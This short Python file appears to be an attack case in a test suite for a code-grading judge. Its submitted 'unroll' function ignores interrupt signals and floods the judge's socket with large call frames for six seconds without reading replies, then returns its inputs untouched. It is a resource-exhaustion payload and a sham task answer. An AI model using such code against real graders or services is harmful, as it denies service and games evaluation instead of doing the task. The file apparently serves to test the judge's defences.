"""Sends calls back without end and without waiting for an answer, each with a large result, so that
the judge is always busy and its answers pile up. Who speaks out of turn is ended.
"""

from attacks import CHANNEL

TOP = CHANNEL
ANSWERS = {
    "unroll": """
def unroll(step, xs, state):
    import signal, time
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    n, D = 500, xs.shape[2]
    H = state.shape[1] if isinstance(state, torch.Tensor) else 1
    args = ["tuple", ["tuple", ["tensor", "float64", [n, 1, D], 0, {}],
                      ["tensor", "float64", [1, n, H], 1, {}]], ["dict"]]
    one = frame({"op": "call", "target": step._handle, "args": args, "grad": True},
                bytes(8 * n * D), bytes(8 * n * H))
    sock, start = channel(), time.time()
    while time.time() - start < 6:
        sock.sendall(one)
    return xs, state
"""
}
COSTS = ["LSTM"]
SUSPICIOUS = "no answer"
